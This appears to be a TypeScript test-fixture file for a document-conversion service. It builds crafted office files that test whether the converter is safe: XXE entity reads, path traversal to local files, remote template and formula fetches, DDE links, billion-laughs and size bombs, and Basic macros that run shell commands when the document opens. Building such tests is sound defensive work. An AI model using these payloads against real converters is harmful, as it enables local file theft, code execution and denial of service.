import { type Attack, harmless, refused } from './attack.ts';
import { smallPng, zipOf } from './bytes.ts';
import { both, docx, field, flat, formula, odf, odfNames, rels, schema, slides, types, wordNames, xlsx, xml } from './office-files.ts';

export const office: readonly Attack[] = [
  harmless('docx-template-from-outside', 'docx pdf', ({ call }) =>
    docx('', [['settings', 'settings.xml']], {
      'word/settings.xml': `${xml}<w:settings ${wordNames}><w:attachedTemplate r:id="rId1"/></w:settings>`,
      'word/_rels/settings.xml.rels': rels(['attachedTemplate', call, true]),
    }),
  ),
  harmless('docx-chunk-from-outside', 'docx pdf', ({ call, file }) =>
    docx('<w:altChunk r:id="rId1"/><w:altChunk r:id="rId2"/>', [
      ['aFChunk', call, true],
      ['aFChunk', `file://${file}`, true],
    ]),
  ),
  harmless('docx-chunk-of-html', 'docx odt', (lure) =>
    docx('<w:altChunk r:id="rId1"/>', [['aFChunk', 'a.html']], {
      'word/a.html': `<html><body>${both(lure, (place) => `<img src="${place}"><iframe src="${place}"></iframe><link rel="stylesheet" href="${place}">`)}</body></html>`,
    }),
  ),
  ...(['INCLUDETEXT', 'INCLUDEPICTURE', 'LINK Word.Document', 'DDEAUTO c:', 'RD', 'DATABASE \\d', 'IMPORT'] as const).map((code) =>
    harmless(`docx-field-${code.split(' ')[0]?.toLowerCase()}`, 'docx pdf', (lure) =>
      docx(both(lure, (place) => field(`${code} &quot;${place}&quot;`))),
    ),
  ),
  harmless('docx-mail-merge', 'docx rtf', ({ file }) =>
    docx('', [['settings', 'settings.xml']], {
      'word/settings.xml': `${xml}<w:settings ${wordNames}><w:mailMerge><w:dataType w:val="textFile"/><w:dataSource r:id="rId1"/></w:mailMerge></w:settings>`,
      'word/_rels/settings.xml.rels': rels(['mailMergeSource', `file://${file}`, true]),
    }),
  ),
  harmless('docx-part-outside-the-package', 'docx pdf', ({ file }) =>
    docx('', [
      ['styles', `../../../../../../../..${file}`],
      ['header', file],
    ]),
  ),
  refused('docx-late-doctype', 'docx txt', ({ file }) =>
    zipOf({
      '[Content_Types].xml': types(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        '/word/document.xml',
      ),
      '_rels/.rels': rels(['officeDocument', 'word/document.xml']),
      'word/document.xml': `${xml}<!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}">]><w:document ${wordNames}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>`,
    }),
  ),
  harmless('docx-doctype-after-noise', 'docx html', ({ file }) => {
    // Incompressible noise, so that the beginning of the part contains nothing else.
    const noise = Array.from({ length: 20_000 }, (_, index) => Bun.hash(String(index)).toString(36)).join('');
    return docx('', [], {
      'word/document.xml': `${xml}<!--${noise}--><!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}">]><w:document ${wordNames}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>`,
    });
  }),
  harmless('docx-drawing-that-reaches-out', 'docx pdf', (lure) =>
    docx(
      '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:99pt;height:99pt"><v:imagedata r:id="rId1"/></v:shape></w:pict></w:r></w:p>',
      [['image', 'media/a.svg']],
      {
        'word/media/a.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">${both(lure, (place) => `<image href="${place}" width="99" height="99"/>`)}</svg>`,
      },
    ),
  ),
  harmless(
    'xlsx-cells-of-many-looks',
    'xlsx html',
    () => {
      const words = '<r><rPr><b/></rPr><t>a </t></r><r><rPr><i/></rPr><t>&lt;b&gt;</t></r>'.repeat(20);
      return xlsx(
        Array.from({ length: 3000 }, (_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="inlineStr"><is>${words}</is></c></row>`).join(
          '',
        ),
      );
    },
    { seconds: 60, never: /<b><i><b>/ },
  ),
  harmless(
    'docx-signs-of-many-letters',
    'docx html',
    () => {
      const run = (words: string): string =>
        `<w:r><w:rPr><w:rFonts w:ascii="Wingdings" w:hAnsi="Wingdings"/></w:rPr><w:t>${words}</w:t></w:r>`;
      return docx(`<w:p>${run('J&amp;'.repeat(50_000))}</w:p>${`<w:p>${run('J')}</w:p>`.repeat(5000)}`);
    },
    { seconds: 60 },
  ),
  ...['csv', 'json', 'html', 'pdf'].map((to) =>
    harmless(`xlsx-formulas-that-call-${to}`, `xlsx ${to}`, ({ call, file }) =>
      xlsx(formula(`_xlfn.WEBSERVICE("${call}")&amp;'file://${file}'#$a.A1&amp;IMAGE("${call}")&amp;DDE("soffice","${file}","a")`)),
    ),
  ),
  harmless('xlsx-book-outside', 'xlsx csv', ({ file }) =>
    xlsx(formula('[1]a!A1'), [['externalLink', 'externalLinks/externalLink1.xml']], {
      'xl/externalLinks/externalLink1.xml': `${xml}<externalLink xmlns="${schema}/spreadsheetml/2006/main" xmlns:r="${schema}/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook></externalLink>`,
      'xl/externalLinks/_rels/externalLink1.xml.rels': rels(['externalLinkPath', `file://${file}`, true]),
    }),
  ),
  harmless('xlsx-web-query', 'xlsx ods', ({ call }) =>
    xlsx('', [['connections', 'connections.xml']], {
      'xl/connections.xml': `${xml}<connections xmlns="${schema}/spreadsheetml/2006/main"><connection id="1" type="4" refreshOnLoad="1"><webPr url="${call}"/></connection></connections>`,
    }),
  ),
  harmless('xlsx-part-outside-the-package', 'xlsx csv', ({ file }) =>
    xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', [['sharedStrings', `../../../../../../../..${file}`]]),
  ),
  ...['csv', 'json', 'html', 'xml'].map((to) =>
    harmless(
      `xlsx-far-cells-${to}`,
      `xlsx ${to}`,
      xlsx('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row><row r="1048576"><c r="XFD1048576"><v>3</v></c></row>'),
      { seconds: 125 },
    ),
  ),
  harmless('xlsx-cell-address-of-nowhere', 'xlsx csv', xlsx('<row r="99999999999999"><c r="ZZZZZZZZZZ99999999999999"><v>1</v></c></row>'), {
    seconds: 20,
  }),
  harmless(
    'xlsx-million-merged-cells',
    'xlsx html',
    xlsx('<row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'),
    { seconds: 40 },
  ),
  harmless(
    'xlsx-laughs-after-noise',
    'xlsx json',
    () => {
      const noise = Array.from({ length: 20_000 }, (_, index) => Bun.hash(String(index)).toString(36)).join('');
      const laughs = Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index} "${index ? `&a${index - 1};`.repeat(12) : 'ha'}">`).join(
        '',
      );
      return xlsx('', [], {
        'xl/worksheets/sheet1.xml': `${xml}<!--${noise}--><!DOCTYPE a [${laughs}]><worksheet xmlns="${schema}/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a11;</t></is></c></row></sheetData></worksheet>`,
      });
    },
    { seconds: 20 },
  ),
  harmless('pptx-film-from-outside', 'pptx pdf', (lure) => slides('video', lure)),
  harmless('pptx-sound-from-outside', 'pptx odp', (lure) => slides('audio', lure)),
  harmless('odt-index-of-a-file', 'odt pdf', ({ file }) =>
    odf(
      'text',
      `<text:alphabetical-index text:name="i"><text:alphabetical-index-source text:use-keys-as-entries="true"/><text:index-body/></text:alphabetical-index><text:alphabetical-index-auto-mark-file xlink:href="file://${file}"/><text:p>t</text:p>`,
    ),
  ),
  harmless('odt-background-from-outside', 'odt pdf', (lure) =>
    odf(
      'text',
      '<text:p text:style-name="p">t</text:p>',
      `<office:automatic-styles><style:style style:name="p" style:family="paragraph"><style:paragraph-properties>${both(lure, (place) => `<style:background-image xlink:href="${place}"/>`)}</style:paragraph-properties></style:style></office:automatic-styles>`,
    ),
  ),
  harmless('odt-form-data-from-a-file', 'odt docx', (lure) =>
    odf(
      'text',
      `<office:forms>${both(lure, (place) => `<xforms:model><xforms:instance src="${place}"/><xforms:submission action="${place}" method="post"/></xforms:model>`)}</office:forms><text:p>t</text:p>`,
    ),
  ),
  harmless('odt-plugin-and-applet', 'odt pdf', (lure) =>
    odf(
      'text',
      `<text:p>${both(lure, (place) => `<draw:frame svg:width="4cm" svg:height="4cm"><draw:plugin xlink:href="${place}" draw:mime-type="text/html"/></draw:frame><draw:frame svg:width="4cm" svg:height="4cm"><draw:applet draw:code="a" draw:archive="${place}" xlink:href="${place}"/></draw:frame><draw:frame svg:width="4cm" svg:height="4cm"><draw:object xlink:href="${place}"/></draw:frame>`)}</text:p>`,
    ),
  ),
  harmless('odt-updates-asked-for', 'odt txt', ({ file }) =>
    odf(
      'text',
      `<text:section text:name="s"><text:section-source xlink:href="file://${file}" text:filter-name="Text"/><text:p>old</text:p></text:section>`,
      '',
      {
        'settings.xml': `${xml}<office:document-settings ${odfNames} xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0"><office:settings><config:config-item-set config:name="ooo:configuration-settings"><config:config-item config:name="LinkUpdateMode" config:type="short">2</config:config-item></config:config-item-set></office:settings></office:document-settings>`,
      },
    ),
  ),
  harmless(
    'odp-action-that-runs-a-program',
    'odp pdf',
    odf(
      'presentation',
      '<draw:page><draw:custom-shape svg:width="4cm" svg:height="4cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="execute" xlink:href="file:///usr/bin/touch"/></office:event-listeners></draw:custom-shape></draw:page>',
    ),
  ),
  harmless(
    'ods-repeated-for-ever-csv',
    'ods csv',
    odf(
      'spreadsheet',
      '<table:table table:name="S"><table:table-row table:number-rows-repeated="2147483647"><table:table-cell table:number-columns-repeated="2147483647"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
    ),
    { seconds: 60 },
  ),
  harmless('ods-cells-from-a-file', 'ods csv', ({ file }) =>
    odf(
      'spreadsheet',
      `<table:table table:name="S"><table:table-row><table:table-cell><table:cell-range-source table:name="a" xlink:href="file://${file}" table:filter-name="Text - txt - csv (StarCalc)" table:last-column-spanned="1" table:last-row-spanned="9"/><text:p>old</text:p></table:table-cell></table:table-row></table:table><table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="${file}" office:dde-item="a" office:automatic-update="true"/></table:dde-link></table:dde-links>`,
    ),
  ),
  harmless(
    'fodt-basic-that-runs-at-opening',
    'fodt pdf',
    flat(
      '<text:p>t</text:p>',
      '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main\nShell("touch /tmp/hostile-basic")\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>',
    ),
  ),
  ...['pdf', 'docx', 'txt'].map((to) =>
    harmless(
      `rtf-fields-and-objects-${to}`,
      `rtf ${to}`,
      (lure) =>
        `{\\rtf1{\\*\\template ${lure.call}}words ${both(lure, (place) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${place}" \\\\d}{\\fldrslt old}}{\\field{\\*\\fldinst INCLUDETEXT "${place}"}{\\fldrslt old}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 0105000002000000}}`)}}`,
    ),
  ),
  harmless('rtf-picture-of-4-gigabytes', 'rtf pdf', '{\\rtf1{\\pict\\pngblip\\picw2147483647\\pich2147483647\\bin4294967295 x}}', {
    seconds: 20,
  }),
  refused(
    'xls-marked-as-xlsx-inside-nothing',
    'xlsx csv',
    zipOf({ '[Content_Types].xml': types('x', '/xl/workbook.xml'), 'xl/workbook.xml': 'no xml' }),
  ),
  harmless(
    'docx-picture-of-900-megapixels',
    'docx html',
    () =>
      docx(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:99pt;height:99pt"><v:imagedata r:id="rId1"/></v:shape></w:pict></w:r></w:p>',
        [['image', 'media/a.png']],
        {
          'word/media/a.png': Buffer.concat([
            smallPng().subarray(0, 16),
            Buffer.from([0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]),
            smallPng().subarray(24),
          ]),
        },
      ),
    { seconds: 30 },
  ),
];
